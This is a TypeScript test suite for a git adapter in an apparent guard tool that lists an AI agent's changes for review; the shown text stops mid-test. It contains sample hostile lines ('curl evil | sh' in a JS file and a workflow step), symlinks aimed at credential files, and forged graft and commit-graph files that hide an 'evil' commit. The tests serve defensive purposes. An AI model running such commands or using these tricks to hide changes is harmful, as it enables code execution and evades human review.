// The git adapter against real git repositories (no mocks). Test names cite ATTACKS.md items.

import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdir, rm } from 'node:fs/promises';
import { join } from 'node:path';
import type { ChangeEntry } from '../../src/core/types.js';
import { computeChangeSet } from '../../src/adapters/git/change-set.js';
import { commitInfo, patchId } from '../../src/adapters/git/history.js';
import { GitError } from '../../src/adapters/git/process.js';
import { decodeGitPath, parseRawDiff, RawDiffParser } from '../../src/adapters/git/raw-diff.js';
import { currentBranch, defaultBranch, isShallow, mergeBase, readFileAtCommit, remoteUrl, resolveCommit } from '../../src/adapters/git/reads.js';
import { TestRepo, isolateProcessGitConfig, makeTempDir, runGit } from '../support/git-repo.js';

const ZERO = '0'.repeat(40);
let restoreEnv: () => void;
const cleanups: Array<() => Promise<void>> = [];

beforeAll(() => {
  restoreEnv = isolateProcessGitConfig();
});
afterAll(async () => {
  restoreEnv();
  for (const c of cleanups) await c();
});

async function newRepo(): Promise<TestRepo> {
  const repo = await TestRepo.init();
  cleanups.push(() => repo.cleanup());
  return repo;
}

/** A repository with one commit on `main` (README.md plus `files`), and branch `agent` checked out. */
async function repoWithBase(files: Record<string, string | Buffer> = {}): Promise<TestRepo> {
  const repo = await newRepo();
  await repo.write('README.md', '# project\n');
  for (const [path, content] of Object.entries(files)) await repo.write(path, content);
  await repo.commit('base');
  await repo.checkout('agent', { create: true });
  return repo;
}

async function hashBlob(repo: TestRepo, content: string | Buffer): Promise<string> {
  return (await repo.run(['hash-object', '--stdin'], { input: content })).stdout.toString('latin1').trim();
}

async function changes(repo: TestRepo, base = 'main', head = 'agent'): Promise<ChangeEntry[]> {
  return (await computeChangeSet(repo.dir, base, head)).entries;
}

function byPath(entries: ChangeEntry[]): ChangeEntry[] {
  return [...entries].sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
}

async function expectGitError(promise: Promise<unknown>, code: string): Promise<GitError> {
  let caught: unknown;
  try {
    await promise;
  } catch (err) {
    caught = err;
  }
  expect(caught).toBeInstanceOf(GitError);
  const err = caught as GitError;
  expect(err.code).toBe(code);
  return err;
}

/** Expected entry for a newly added regular text file. */
function added(path: string, blob: string, extra: Partial<ChangeEntry> = {}): ChangeEntry {
  return {
    status: 'added',
    path,
    oldMode: '000000',
    newMode: '100644',
    oldKind: 'none',
    newKind: 'regular',
    oldBlob: ZERO,
    newBlob: blob,
    lfsPointer: false,
    binary: false,
    ...extra,
  };
}

describe('enumerating paths exactly (ATTACKS 1.2)', () => {
  test('ATTACKS 7.1: a non-ASCII workflow name appears raw, not C-quoted', async () => {
    const repo = await repoWithBase();
    await repo.write('.github/workflows/évil.yml', 'on: push\n');
    // The same name in NFD (e + combining acute) is a different path; canonicalisation is later code's job.
    await repo.write('.github/workflows/e\u0301vil2.yml', 'on: push\n');
    await repo.commit('add workflows');
    const blob = await hashBlob(repo, 'on: push\n');
    expect(byPath(await changes(repo))).toEqual(
      byPath([added('.github/workflows/évil.yml', blob), added('.github/workflows/e\u0301vil2.yml', blob)]),
    );
  });

  test('ATTACKS 7.2: newline, tab, quote and backslash in names are single raw paths', async () => {
    const repo = await repoWithBase();
    const names = ['docs/a\n.github/workflows/x.yml', 'docs/tab\tname.md', 'docs/"quoted".md', 'docs/back\\slash.md', 'docs/cr\r.md'];
    for (const n of names) await repo.write(n, `content of ${n}\n`);
    await repo.commit('odd names');
    const expected = await Promise.all(names.map(async (n) => added(n, await hashBlob(repo, `content of ${n}\n`))));
    expect(byPath(await changes(repo))).toEqual(byPath(expected));
  });

  test('a leading byte-order mark (zero-width U+FEFF) is kept, not swallowed by the decoder', async () => {
    const repo = await repoWithBase();
    await repo.write('\uFEFFREADME.md', 'x\n');
    await repo.commit('bom');
    expect(await changes(repo)).toEqual([added('\uFEFFREADME.md', await hashBlob(repo, 'x\n'))]);
  });

  test('invalid UTF-8 bytes in a name are flagged and kept in a lossless escaped form', async () => {
    const repo = await repoWithBase();
    const raw1 = Buffer.concat([Buffer.from('docs/'), Buffer.from([0xff, 0xfe]), Buffer.from('.md')]);
    const raw2 = Buffer.concat([Buffer.from('docs/é\\'), Buffer.from([0xc3]), Buffer.from('.md')]);
    await repo.write(raw1, 'one\n');
    await repo.write(raw2, 'two\n');
    await repo.commit('invalid utf-8');
    expect(byPath(await changes(repo))).toEqual(
      byPath([
        added('docs/\\xff\\xfe.md', await hashBlob(repo, 'one\n'), { invalidUtf8: true }),
        added('docs/é\\\\\\xc3.md', await hashBlob(repo, 'two\n'), { invalidUtf8: true }),
      ]),
    );
  });

  test('ATTACKS 7.33: a large change set is complete (no 300/3000 cap), the workflow sorting last included', async () => {
    const repo = await repoWithBase();
    const files: Array<[string, string]> = Array.from({ length: 3001 }, (_, i) => [`f${String(i).padStart(4, '0')}.txt`, `${i}\n`]);
    files.push(['zz/.github/workflows/late.yml', 'on: push\n']);
    await repo.importCommit('many', 'main', files);
    const entries = await changes(repo, 'main', 'many');
    expect(entries).toHaveLength(3002);
    expect(entries[entries.length - 1]!.path).toBe('zz/.github/workflows/late.yml');
    expect(new Set(entries.map((e) => e.path)).size).toBe(3002);
  });
});

describe('object formats', () => {
  test('SHA-256 repositories: 64-hex object ids throughout', async () => {
    const repo = await TestRepo.init({ objectFormat: 'sha256' });
    cleanups.push(() => repo.cleanup());
    await repo.write('README.md', 'x\n');
    await repo.commit('base');
    await repo.checkout('agent', { create: true });
    await repo.write('.github/workflows/ci.yml', 'on: push\n');
    await repo.symlink('docs/link', '../secret');
    await repo.commit('change');
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.head).toMatch(/^[0-9a-f]{64}$/);
    expect(cs.mergeBase).toMatch(/^[0-9a-f]{64}$/);
    expect(cs.entries).toEqual([
      added('.github/workflows/ci.yml', await hashBlob(repo, 'on: push\n'), { oldBlob: '0'.repeat(64) }),
      {
        status: 'added',
        path: 'docs/link',
        oldMode: '000000',
        newMode: '120000',
        oldKind: 'none',
        newKind: 'symlink',
        oldBlob: '0'.repeat(64),
        newBlob: await hashBlob(repo, '../secret'),
        symlinkTarget: '../secret',
      },
    ]);
    expect(cs.entries[0]!.newBlob).toMatch(/^[0-9a-f]{64}$/);
    expect((await readFileAtCommit(repo.dir, 'agent', '.github/workflows/ci.yml'))?.toString()).toBe('on: push\n');
    expect(await patchId(repo.dir, 'main', 'agent')).toMatch(/^[0-9a-f]{40}$|^[0-9a-f]{64}$/);
  });
});

describe('renames, copies, deletions, kinds', () => {
  test('ATTACKS 7.20: renaming a workflow away keeps both sides (R100 with previousPath)', async () => {
    const repo = await repoWithBase({ '.github/workflows/deploy.yml': 'on: push\njobs: {}\n' });
    await repo.mv('.github/workflows/deploy.yml', 'docs/deploy-notes.md');
    await repo.commit('rename');
    const blob = await hashBlob(repo, 'on: push\njobs: {}\n');
    expect(await changes(repo)).toEqual([
      {
        status: 'renamed',
        path: 'docs/deploy-notes.md',
        previousPath: '.github/workflows/deploy.yml',
        oldMode: '100644',
        newMode: '100644',
        oldKind: 'regular',
        newKind: 'regular',
        oldBlob: blob,
        newBlob: blob,
        score: 100,
        lfsPointer: false,
        binary: false,
      },
    ]);
  });

  test('ATTACKS 7.21: renaming into .github/workflows (with an edit) is a rename with a score', async () => {
    const content = Array.from({ length: 20 }, (_, i) => `line ${i}\n`).join('');
    const repo = await repoWithBase({ 'docs/ci.yml': content });
    await repo.mv('docs/ci.yml', '.github/workflows/ci2.yml');
    await repo.write('.github/workflows/ci2.yml', content + 'extra: true\n');
    await repo.commit('rename into workflows');
    const [entry, ...rest] = await changes(repo);
    expect(rest).toEqual([]);
    expect(entry).toEqual({
      status: 'renamed',
      path: '.github/workflows/ci2.yml',
      previousPath: 'docs/ci.yml',
      oldMode: '100644',
      newMode: '100644',
      oldKind: 'regular',
      newKind: 'regular',
      oldBlob: await hashBlob(repo, content),
      newBlob: await hashBlob(repo, content + 'extra: true\n'),
      score: expect.any(Number) as unknown as number,
      lfsPointer: false,
      binary: false,
    });
    expect(entry!.score).toBeGreaterThanOrEqual(50);
    expect(entry!.score).toBeLessThan(100);
  });

  test('ATTACKS 7.22: a copy is one A entry for the destination; the untouched source is not an entry', async () => {
    const wf = 'on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n';
    const repo = await repoWithBase({ '.github/workflows/ci.yml': wf });
    await repo.write('docs/ci-copy.yml', wf);
    await repo.commit('copy');
    const blob = await hashBlob(repo, wf);
    expect(await changes(repo)).toEqual([added('docs/ci-copy.yml', blob)]);
  });

  test('ATTACKS 7.22: a copy whose source is also modified: the destination (A) and the source (M)', async () => {
    const wf = Array.from({ length: 30 }, (_, i) => `step${i}: run ${i}\n`).join('');
    const repo = await repoWithBase({ '.github/workflows/ci.yml': wf });
    await repo.write('docs/ci-copy.yml', wf);
    await repo.write('.github/workflows/ci.yml', wf + 'extra: 1\n');
    await repo.commit('copy and modify');
    const blob = await hashBlob(repo, wf);
    expect(await changes(repo)).toEqual([
      {
        status: 'modified',
        path: '.github/workflows/ci.yml',
        oldMode: '100644',
        newMode: '100644',
        oldKind: 'regular',
        newKind: 'regular',
        oldBlob: blob,
        newBlob: await hashBlob(repo, wf + 'extra: 1\n'),
        lfsPointer: false,
        binary: false,
      },
      added('docs/ci-copy.yml', blob),
    ]);
  });

  test('ATTACKS 7.20: when rename detection gives up, both paths still appear (D + A) and the warning is kept', async () => {
    const body = (n: number): string => Array.from({ length: 20 }, (_, i) => `${n} line ${i}\n`).join('');
    const repo = await repoWithBase({ '.github/workflows/a.yml': body(1), '.github/workflows/b.yml': body(2) });
    await repo.mv('.github/workflows/a.yml', 'docs/a.md');
    await repo.mv('.github/workflows/b.yml', 'docs/b.md');
    await repo.write('docs/a.md', body(1) + 'x\n');
    await repo.write('docs/b.md', body(2) + 'y\n');
    await repo.commit('renames with edits');
    const full = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(full.entries.map((e) => [e.status, e.previousPath, e.path])).toEqual([
      ['renamed', '.github/workflows/a.yml', 'docs/a.md'],
      ['renamed', '.github/workflows/b.yml', 'docs/b.md'],
    ]);
    const limited = await computeChangeSet(repo.dir, 'main', 'agent', { renameLimit: 1 });
    expect(limited.entries.map((e) => [e.status, e.path])).toEqual([
      ['deleted', '.github/workflows/a.yml'],
      ['deleted', '.github/workflows/b.yml'],
      ['added', 'docs/a.md'],
      ['added', 'docs/b.md'],
    ]);
    expect(limited.warnings.join(' ')).toMatch(/rename detection was skipped/);
  });

  test('rename detection options are bounded (git treats -l0 as unlimited)', async () => {
    const repo = await repoWithBase();
    await expectGitError(computeChangeSet(repo.dir, 'main', 'agent', { renameLimit: 0 }), 'INVALID_OPTION');
    await expectGitError(computeChangeSet(repo.dir, 'main', 'agent', { renameLimit: 1e9 }), 'INVALID_OPTION');
  });

  test('ATTACKS 7.23: deleting a workflow is a D entry', async () => {
    const repo = await repoWithBase({ '.github/workflows/security-scan.yml': 'on: push\n' });
    await repo.remove('.github/workflows/security-scan.yml');
    await repo.commit('delete scan');
    expect(await changes(repo)).toEqual([
      {
        status: 'deleted',
        path: '.github/workflows/security-scan.yml',
        oldMode: '100644',
        newMode: '000000',
        oldKind: 'regular',
        newKind: 'none',
        oldBlob: await hashBlob(repo, 'on: push\n'),
        newBlob: ZERO,
      },
    ]);
  });

  test('ATTACKS 7.24: a file replaced by a symlink to an absolute path is T with the target read', async () => {
    const repo = await repoWithBase({ 'docs/readme.md': '# docs\n' });
    await repo.symlink('docs/readme.md', '/home/runner/.config/gh/hosts.yml');
    await repo.commit('type change');
    expect(await changes(repo)).toEqual([
      {
        status: 'type_changed',
        path: 'docs/readme.md',
        oldMode: '100644',
        newMode: '120000',
        oldKind: 'regular',
        newKind: 'symlink',
        oldBlob: await hashBlob(repo, '# docs\n'),
        newBlob: await hashBlob(repo, '/home/runner/.config/gh/hosts.yml'),
        symlinkTarget: '/home/runner/.config/gh/hosts.yml',
      },
    ]);
  });

  test('ATTACKS 7.25: a new symlink to ../.env.production carries its target', async () => {
    const repo = await repoWithBase();
    await repo.symlink('docs/link.md', '../.env.production');
    await repo.commit('symlink');
    expect(await changes(repo)).toEqual([
      {
        status: 'added',
        path: 'docs/link.md',
        oldMode: '000000',
        newMode: '120000',
        oldKind: 'none',
        newKind: 'symlink',
        oldBlob: ZERO,
        newBlob: await hashBlob(repo, '../.env.production'),
        symlinkTarget: '../.env.production',
      },
    ]);
  });

  test('a symlink target that is not valid UTF-8 is escaped and flagged', async () => {
    const repo = await repoWithBase();
    const target = Buffer.concat([Buffer.from('../'), Buffer.from([0xff]), Buffer.from('x')]);
    await repo.symlink('docs/weird', target);
    await repo.commit('weird link');
    const [entry] = await changes(repo);
    expect(entry).toMatchObject({ path: 'docs/weird', newKind: 'symlink', symlinkTarget: '../\\xffx', invalidUtf8: true });
  });

  test('ATTACKS 7.26: chmod +x with no content change is M with different modes', async () => {
    const repo = await repoWithBase({ 'scripts/deploy.sh': 'echo deploy\n' });
    await repo.chmod('scripts/deploy.sh', true);
    await repo.commit('chmod');
    const blob = await hashBlob(repo, 'echo deploy\n');
    expect(await changes(repo)).toEqual([
      {
        status: 'modified',
        path: 'scripts/deploy.sh',
        oldMode: '100644',
        newMode: '100755',
        oldKind: 'regular',
        newKind: 'executable',
        oldBlob: blob,
        newBlob: blob,
        lfsPointer: false,
        binary: false,
      },
    ]);
  });

  test('a submodule (gitlink) addition and update are listed, even when config says to ignore submodules', async () => {
    const repo = await repoWithBase();
    const sha1 = await repo.rev('main');
    await repo.write('.gitmodules', '[submodule "sub"]\n\tpath = vendor/sub\n\turl = https://example.com/sub.git\n\tignore = all\n');
    await repo.git('add', '.gitmodules');
    await repo.addGitlink('vendor/sub', sha1);
    await repo.commitIndex('add submodule');
    const mbBefore = await repo.rev('HEAD');
    const sha2 = '1'.repeat(40);
    await repo.git('update-index', '--cacheinfo', `160000,${sha2},vendor/sub`);
    await repo.commitIndex('bump submodule');
    await repo.git('config', 'diff.ignoreSubmodules', 'all');
    await repo.git('config', 'submodule.sub.ignore', 'all');
    // The attack is real: porcelain `git diff` now hides the gitlink.
    expect(await repo.git('diff', '--raw', 'main', mbBefore)).not.toContain('vendor/sub');
    const entries = byPath(await changes(repo, 'main', mbBefore));
    expect(entries).toEqual([
      added('.gitmodules', await hashBlob(repo, '[submodule "sub"]\n\tpath = vendor/sub\n\turl = https://example.com/sub.git\n\tignore = all\n')),
      {
        status: 'added',
        path: 'vendor/sub',
        oldMode: '000000',
        newMode: '160000',
        oldKind: 'none',
        newKind: 'gitlink',
        oldBlob: ZERO,
        newBlob: sha1,
      },
    ]);
    // Moving the pointer to another commit is an M on the gitlink.
    const bump = await computeChangeSet(repo.dir, mbBefore, 'HEAD');
    expect(bump.entries).toEqual([
      {
        status: 'modified',
        path: 'vendor/sub',
        oldMode: '160000',
        newMode: '160000',
        oldKind: 'gitlink',
        newKind: 'gitlink',
        oldBlob: sha1,
        newBlob: sha2,
      },
    ]);
  });

  test('a submodule replaced by a file of its name is a T entry (gitlink -> regular); a directory and a file swapping places are a D and an A of every path', async () => {
    const repo = await repoWithBase({ 'd/x': 'x\n', f: 'y\n' });
    await repo.addGitlink('vendor/sub', await repo.rev('main'));
    await repo.commitIndex('submodule, no .gitmodules');
    const before = await repo.rev('HEAD');
    await repo.git('rm', '-q', '--cached', 'vendor/sub');
    await rm(join(repo.dir, 'vendor', 'sub'), { recursive: true, force: true });
    await repo.write('vendor/sub', 'now a file\n');
    await repo.git('rm', '-q', '-r', 'd', 'f');
    await repo.write('d', 'now a file\n');
    await repo.write('f/inner', 'now a directory\n');
    await repo.commit('swap kinds');
    const entries = byPath(await changes(repo, before, 'HEAD'));
    expect(entries.map((e) => [e.status, e.path, e.oldKind, e.newKind])).toEqual([
      ['added', 'd', 'none', 'regular'],
      ['deleted', 'd/x', 'regular', 'none'],
      ['deleted', 'f', 'regular', 'none'],
      ['added', 'f/inner', 'none', 'regular'],
      ['type_changed', 'vendor/sub', 'gitlink', 'regular'],
    ]);
  });

  test('ATTACKS 7.37: a Git LFS pointer is flagged; a large file with the same first line is not', async () => {
    const pointer =
      'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n';
    const repo = await repoWithBase();
    await repo.write('.gitattributes', 'scripts/*.sh filter=lfs diff=lfs merge=lfs -text\n');
    await repo.write('scripts/x.sh', pointer);
    await repo.write('docs/not-a-pointer.txt', pointer + 'x'.repeat(2000));
    await repo.commit('lfs');
    const entries = byPath(await changes(repo));
    expect(entries.map((e) => [e.path, e.lfsPointer, e.binary])).toEqual([
      ['.gitattributes', false, false],
      ['docs/not-a-pointer.txt', false, false],
      ['scripts/x.sh', true, false],
    ]);
  });

  test('binary detection: a NUL within the first 8000 bytes, as git decides; .gitattributes cannot hide content (7.28)', async () => {
    const repo = await repoWithBase();
    const nulAt = (pos: number, len: number): Buffer => {
      const b = Buffer.alloc(len, 0x61);
      b[pos] = 0;
      return b;
    };
    await repo.write('.gitattributes', 'src/*.js -diff linguist-generated=true\n');
    await repo.write('assets/early.bin', nulAt(7999, 9000));
    await repo.write('assets/late.bin', nulAt(8000, 9000));
    await repo.write('src/app.js', 'require("child_process").exec("curl evil | sh")\n');
    await repo.write('assets/big.bin', nulAt(10, 2 * 1024 * 1024 + 17));
    await repo.write('assets/big2.txt', Buffer.alloc(1024 * 1024 + 1, 0x62));
    await repo.write('assets/zsmall.bin', nulAt(0, 10));
    await repo.symlink('assets/zlink', 'big.bin');
    await repo.commit('binaries');
    const entries = byPath(await changes(repo));
    expect(entries.map((e) => [e.path, e.binary, e.lfsPointer, e.symlinkTarget])).toEqual([
      ['.gitattributes', false, false, undefined],
      ['assets/big.bin', true, false, undefined],
      ['assets/big2.txt', false, false, undefined],
      ['assets/early.bin', true, false, undefined],
      ['assets/late.bin', false, false, undefined],
      ['assets/zlink', undefined, undefined, 'big.bin'],
      ['assets/zsmall.bin', true, false, undefined],
      ['src/app.js', false, false, undefined],
    ]);
    // Blobs above the inspection limit are not read (the reader skips them): binary stays unknown,
    // and everything after them is still inspected.
    const limited = await computeChangeSet(repo.dir, 'main', 'agent', { maxInspectBytes: 1024 * 1024 });
    expect(byPath(limited.entries).map((e) => [e.path, e.binary, e.lfsPointer, e.symlinkTarget])).toEqual([
      ['.gitattributes', false, false, undefined],
      ['assets/big.bin', undefined, false, undefined],
      ['assets/big2.txt', undefined, false, undefined],
      ['assets/early.bin', true, false, undefined],
      ['assets/late.bin', false, false, undefined],
      ['assets/zlink', undefined, undefined, 'big.bin'],
      ['assets/zsmall.bin', true, false, undefined],
      ['src/app.js', false, false, undefined],
    ]);
    await expectGitError(computeChangeSet(repo.dir, 'main', 'agent', { maxInspectBytes: 10 }), 'INVALID_OPTION');
  });
});

describe('how blob contents reach the reader (spill file or pipe): the same facts either way', () => {
  const pointer = 'version https://git-lfs.github.com/spec/v1\noid sha256:' + 'c'.repeat(64) + '\nsize 7\n';
  const nulAt = (pos: number, len: number, fill = 0x61): Buffer => {
    const b = Buffer.alloc(len, fill);
    b[pos] = 0;
    return b;
  };
  const facts = (entries: ChangeEntry[]) => byPath(entries).map((e) => [e.path, e.status, e.binary, e.lfsPointer, e.symlinkTarget]);

  async function mixedRepo(): Promise<TestRepo> {
    const repo = await repoWithBase({ 'src/keep.txt': 'keep\n', 'src/gone.txt': 'gone\n' });
    for (let i = 0; i < 300; i++) await repo.write(`many/f${i}.txt`, `file ${i}\n${'y'.repeat(i)}\n`);
    await repo.write('a/small.txt', 'small\n');
    await repo.write('b/big.bin', nulAt(5, 3 * 1024 * 1024 + 11));
    await repo.write('c/huge.txt', Buffer.alloc(2 * 1024 * 1024 + 3, 0x62));
    await repo.write('d/lfs.dat', pointer);
    await repo.write('e/late-nul.bin', nulAt(8000, 9000));
    await repo.write('src/keep.txt', 'keep\nchanged\n');
    await repo.remove('src/gone.txt');
    await repo.symlink('f/link', '../a/small.txt');
    await repo.commit('mixed');
    return repo;
  }

  test('pipe, spill file and spill files replaced after every object agree, also when the reader skips oversized blobs', async () => {
    const repo = await mixedRepo();
    const viaFile = await computeChangeSet(repo.dir, 'main', 'agent');
    const viaPipe = await computeChangeSet(repo.dir, 'main', 'agent', { spillToFile: false });
    // A 1-byte limit moves the reader to a new file (a new process) as soon as one object is complete,
    // often in the middle of the next one (3 MiB, read 1 MiB at a time), which is then asked for again.
    const rotating = await computeChangeSet(repo.dir, 'main', 'agent', { spillFileMaxBytes: 1 });
    expect(viaFile.entries).toHaveLength(308);
    expect(facts(viaFile.entries).filter(([p]) => !String(p).startsWith('many/'))).toEqual([
      ['a/small.txt', 'added', false, false, undefined],
      ['b/big.bin', 'added', true, false, undefined],
      ['c/huge.txt', 'added', false, false, undefined],
      ['d/lfs.dat', 'added', false, true, undefined],
      ['e/late-nul.bin', 'added', false, false, undefined],
      ['f/link', 'added', undefined, undefined, '../a/small.txt'],
      ['src/gone.txt', 'deleted', undefined, undefined, undefined],
      ['src/keep.txt', 'modified', false, false, undefined],
    ]);
    expect(viaFile.entries.filter((e) => e.path.startsWith('many/')).every((e) => e.binary === false && e.lfsPointer === false)).toBe(true);
    expect(viaPipe.entries).toEqual(viaFile.entries);
    expect(rotating.entries).toEqual(viaFile.entries);

    // Oversized blobs are skipped by restarting the reader after them, in every transport.
    const limited = facts((await computeChangeSet(repo.dir, 'main', 'agent', { maxInspectBytes: 1024 * 1024 })).entries);
    expect(limited.filter(([p]) => p === 'b/big.bin' || p === 'c/huge.txt')).toEqual([
      ['b/big.bin', 'added', undefined, false, undefined],
      ['c/huge.txt', 'added', undefined, false, undefined],
    ]);
    expect(facts((await computeChangeSet(repo.dir, 'main', 'agent', { maxInspectBytes: 1024 * 1024, spillToFile: false })).entries)).toEqual(limited);
    expect(facts((await computeChangeSet(repo.dir, 'main', 'agent', { maxInspectBytes: 1024 * 1024, spillFileMaxBytes: 1 })).entries)).toEqual(limited);
    await expectGitError(computeChangeSet(repo.dir, 'main', 'agent', { spillFileMaxBytes: 0 }), 'INVALID_OPTION');
  });

  test('spill files leave nothing behind, and a pipe is used when no temporary file can be made', async () => {
    const repo = await mixedRepo();
    const expected = (await computeChangeSet(repo.dir, 'main', 'agent', { spillToFile: false })).entries;
    const saved = process.env.TMPDIR;
    const tmp = makeTempDir('agent-guard-spill-');
    cleanups.push(() => rm(tmp, { recursive: true, force: true }));
    try {
      process.env.TMPDIR = tmp;
      expect((await computeChangeSet(repo.dir, 'main', 'agent', { spillFileMaxBytes: 1 })).entries).toEqual(expected);
      expect(readdirSync(tmp)).toEqual([]);
      process.env.TMPDIR = join(tmp, 'does-not-exist');
      expect((await computeChangeSet(repo.dir, 'main', 'agent')).entries).toEqual(expected);

      // A failure while reading (a blob missing from the object store) is an error, and leaves nothing behind.
      process.env.TMPDIR = tmp;
      const broken = await repoWithBase();
      await broken.write('x/lost.txt', 'this blob will be deleted\n');
      await broken.write('x/other.txt', 'other\n');
      await broken.commit('lost');
      const oid = await hashBlob(broken, 'this blob will be deleted\n');
      await rm(join(broken.dir, '.git', 'objects', oid.slice(0, 2), oid.slice(2)));
      const err = await expectGitError(computeChangeSet(broken.dir, 'main', 'agent'), 'GIT_FAILED');
      expect(err.message).toMatch(/missing/);
      await expectGitError(computeChangeSet(broken.dir, 'main', 'agent', { spillToFile: false }), 'GIT_FAILED');
      expect(readdirSync(tmp)).toEqual([]);
    } finally {
      if (saved === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = saved;
    }
  });
  test('when git cannot finish its spill file, the rest is read through a pipe; a git failure either way is an error', async () => {
    const repo = await mixedRepo();
    const expected = (await computeChangeSet(repo.dir, 'main', 'agent', { spillToFile: false })).entries;
    const realGit = execFileSync('sh', ['-c', 'command -v git']).toString().trim();
    const bin = makeTempDir('agent-guard-fake-git-');
    cleanups.push(() => rm(bin, { recursive: true, force: true }));
    // A git that fails `cat-file --batch` when its stdout is a regular file (a spill file), or always.
    const fakeGit = (always: boolean) =>
      `#!/bin/sh\ncase " $* " in\n  *" cat-file --batch "*)\n    if [ -f /dev/stdout ] || ${always}; then echo 'fatal: unable to write (simulated)' >&2; exit 128; fi ;;\nesac\nexec '${realGit}' "$@"\n`;
    const savedPath = process.env.PATH;
    try {
      process.env.PATH = `${bin}:${savedPath ?? ''}`;
      writeFileSync(join(bin, 'git'), fakeGit(false), { mode: 0o755 });
      expect((await computeChangeSet(repo.dir, 'main', 'agent')).entries).toEqual(expected);
      expect((await computeChangeSet(repo.dir, 'main', 'agent', { spillFileMaxBytes: 1 })).entries).toEqual(expected);
      writeFileSync(join(bin, 'git'), fakeGit(true), { mode: 0o755 });
      const err = await expectGitError(computeChangeSet(repo.dir, 'main', 'agent'), 'GIT_FAILED');
      expect(err.message).toMatch(/simulated/);
    } finally {
      process.env.PATH = savedPath;
    }
  });
});

describe('which commits the change set covers', () => {
  test('ATTACKS 7.38: changes merged in from the base branch are excluded (merge-base..head)', async () => {
    const repo = await repoWithBase();
    await repo.write('src/feature.ts', 'export const x = 1;\n');
    await repo.commit('feature');
    await repo.checkout('main');
    await repo.write('.github/workflows/new.yml', 'on: push\n');
    await repo.commit('new workflow on main');
    await repo.checkout('agent');
    await repo.merge('main');
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.mergeBase).toBe(await repo.rev('main'));
    expect(cs.base).toBe(await repo.rev('main'));
    expect(cs.head).toBe(await repo.rev('agent'));
    expect(cs.entries).toEqual([added('src/feature.ts', await hashBlob(repo, 'export const x = 1;\n'))]);
  });

  test('ATTACKS 7.31: a risky commit followed by a docs-only commit is still in the change set', async () => {
    const repo = await repoWithBase({ '.github/workflows/ci.yml': 'on: push\n' });
    await repo.write('.github/workflows/ci.yml', 'on: push\njobs: { pwn: { runs-on: x, steps: [ { run: "exit 0" } ] } }\n');
    await repo.commit('risky');
    await repo.write('docs/readme.md', 'docs\n');
    await repo.commit('docs only');
    const entries = byPath(await changes(repo));
    expect(entries.map((e) => [e.status, e.path])).toEqual([
      ['modified', '.github/workflows/ci.yml'],
      ['added', 'docs/readme.md'],
    ]);
  });

  test('identical trees give a legitimately empty change set', async () => {
    const repo = await repoWithBase({ 'a.txt': 'a\n' });
    await repo.write('a.txt', 'changed\n');
    await repo.commit('change');
    await repo.git('revert', '--no-edit', 'HEAD');
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.entries).toEqual([]);
    expect((await computeChangeSet(repo.dir, 'main', 'main')).entries).toEqual([]);
  });

  test('a criss-cross history (two merge bases) is refused: one merge base could hide a change', async () => {
    const repo = await repoWithBase();
    await repo.write('a.txt', 'a\n');
    await repo.commit('A1');
    await repo.checkout('other', { create: true, from: 'main' });
    await repo.write('b.txt', 'b\n');
    await repo.commit('B1');
    await repo.checkout('x', { create: true, from: 'agent' });
    await repo.merge('other');
    await repo.checkout('y', { create: true, from: 'other' });
    await repo.merge('agent');
    const err = await expectGitError(computeChangeSet(repo.dir, 'x', 'y'), 'MULTIPLE_MERGE_BASES');
    expect(err.hint).toMatch(/merge/);
  });

  /**
   * main: b0 - b1 - b2 (base tip); agent: b0 - evil (new workflow) - docs (head). The true merge base is b0.
   * Returns the commits; the repository has `main` checked out.
   */
  async function movedBase(): Promise<{ repo: TestRepo; b1: string; b2: string; evil: string; head: string; b0: string }> {
    const repo = await repoWithBase();
    const b0 = await repo.rev('main');
    await repo.write('.github/workflows/evil.yml', 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl evil | sh" } ] } }\n');
    const evil = await repo.commit('evil workflow');
    await repo.write('docs/notes.md', 'notes\n');
    const head = await repo.commit('docs only');
    await repo.checkout('main');
    await repo.write('b1.txt', '1\n');
    const b1 = await repo.commit('b1');
    await repo.write('b2.txt', '2\n');
    const b2 = await repo.commit('b2');
    return { repo, b0, b1, b2, evil, head };
  }

  test('a graft file in the checkout (info/grafts) cannot move the merge base onto the agent\'s commit', async () => {
    const { repo, b0, b2, evil, head } = await movedBase();
    // One line written by an earlier step: "the base tip's parent is the agent's evil commit".
    writeFileSync(join(repo.dir, '.git', 'info', 'grafts'), `${b2} ${evil}\n`);
    // Plain git believes it (even with --no-replace-objects): the merge base is the evil commit, and
    // the diff from it shows only the docs.
    expect((await repo.run(['--no-replace-objects', 'merge-base', 'main', 'agent'])).stdout.toString().trim()).toBe(evil);
    // Before the fix the adapter did too: the change set was docs/notes.md alone.
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.mergeBase).toBe(b0);
    expect(cs.head).toBe(head);
    expect(byPath(cs.entries).map((e) => e.path)).toEqual(['.github/workflows/evil.yml', 'docs/notes.md']);
    expect(cs.warnings).toEqual([]);
    expect(await mergeBase(repo.dir, 'main', 'agent')).toBe(b0);
    // Approver independence reads the same history: the evil commit is in the range.
    expect((await commitInfo(repo.dir, { base: 'main', head: 'agent' })).commits.map((c) => c.sha)).toContain(evil);
  });

  test('a forged commit-graph file (parents cached outside the commits) cannot move the merge base', async () => {
    const { repo, b0, b1, evil } = await movedBase();
    await repo.git('commit-graph', 'write', '--reachable');
    forgeCommitGraphParent(join(repo.dir, '.git', 'objects', 'info', 'commit-graph'), b1, evil);
    // Plain git trusts the cache: b1's parent is now the evil commit, and so is the merge base.
    expect((await repo.git('merge-base', 'main', 'agent')).trim()).toBe(evil);
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.mergeBase).toBe(b0);
    expect(byPath(cs.entries).map((e) => e.path)).toEqual(['.github/workflows/evil.yml', 'docs/notes.md']);
  });

  test('maxEntries bounds the change set (TOO_LARGE, never a truncated list)', async () => {
